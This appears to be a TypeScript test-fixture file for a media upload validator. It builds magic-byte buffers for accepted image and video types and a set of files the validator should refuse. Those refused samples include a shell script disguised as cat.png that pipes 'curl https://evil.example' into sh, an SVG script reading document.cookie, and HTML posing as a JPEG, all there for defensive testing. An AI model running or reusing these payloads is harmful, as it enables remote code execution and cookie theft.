/** Tiny files that start like the real thing: enough for type detection by content. */
const pad = (head: Buffer, size = 256) => Buffer.concat([head, Buffer.alloc(Math.max(0, size - head.length), 7)])
const ascii = (value: string) => Buffer.from(value, 'latin1')

export const MEDIA_FIXTURES = {
  png: pad(Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52])),
  jpg: pad(Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46])),
  gif: pad(ascii('GIF89a\x01\x00\x01\x00')),
  webp: pad(Buffer.concat([ascii('RIFF'), Buffer.from([0xf0, 0, 0, 0]), ascii('WEBPVP8 ')])),
  mp4: pad(Buffer.concat([Buffer.from([0, 0, 0, 0x20]), ascii('ftypisom\x00\x00\x02\x00isomiso2avc1mp41')])),
  mov: pad(Buffer.concat([Buffer.from([0, 0, 0, 0x14]), ascii('ftypqt  \x00\x00\x02\x00qt  ')])),
  webm: pad(
    Buffer.concat([
      Buffer.from([0x1a, 0x45, 0xdf, 0xa3, 0x9f, 0x42, 0x86, 0x81, 0x01, 0x42, 0x82, 0x84]),
      ascii('webm'),
    ])
  ),
}

export const REFUSED_FIXTURES = {
  'a shell script renamed .png': {
    body: ascii('#!/bin/sh\ncurl https://evil.example | sh\n'),
    filename: 'cat.png',
    contentType: 'image/png',
  },
  'an SVG with a script': {
    body: ascii('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>'),
    filename: 'logo.svg',
    contentType: 'image/svg+xml',
  },
  'an HTML page named .jpg': {
    body: ascii('<!doctype html><script>alert(1)</script>'),
    filename: 'photo.jpg',
    contentType: 'image/jpeg',
  },
  'a PDF': { body: pad(ascii('%PDF-1.7\n')), filename: 'cv.png', contentType: 'image/png' },
  'a HEIC photo': {
    body: pad(Buffer.concat([Buffer.from([0, 0, 0, 0x18]), ascii('ftypheic\x00\x00\x00\x00mif1heic')])),
    filename: 'IMG_0001.heic',
    contentType: 'image/heic',
  },
  'an M4A song': {
    body: pad(Buffer.concat([Buffer.from([0, 0, 0, 0x18]), ascii('ftypM4A \x00\x00\x00\x00M4A isom')])),
    filename: 'song.mp4',
    contentType: 'video/mp4',
  },
  'a Matroska video': {
    body: pad(
      Buffer.concat([
        Buffer.from([0x1a, 0x45, 0xdf, 0xa3, 0x9f, 0x42, 0x86, 0x81, 0x01, 0x42, 0x82, 0x88]),
        ascii('matroska'),
      ])
    ),
    filename: 'movie.webm',
    contentType: 'video/webm',
  },
  'an empty file': { body: Buffer.alloc(0), filename: 'empty.png', contentType: 'image/png' },
}
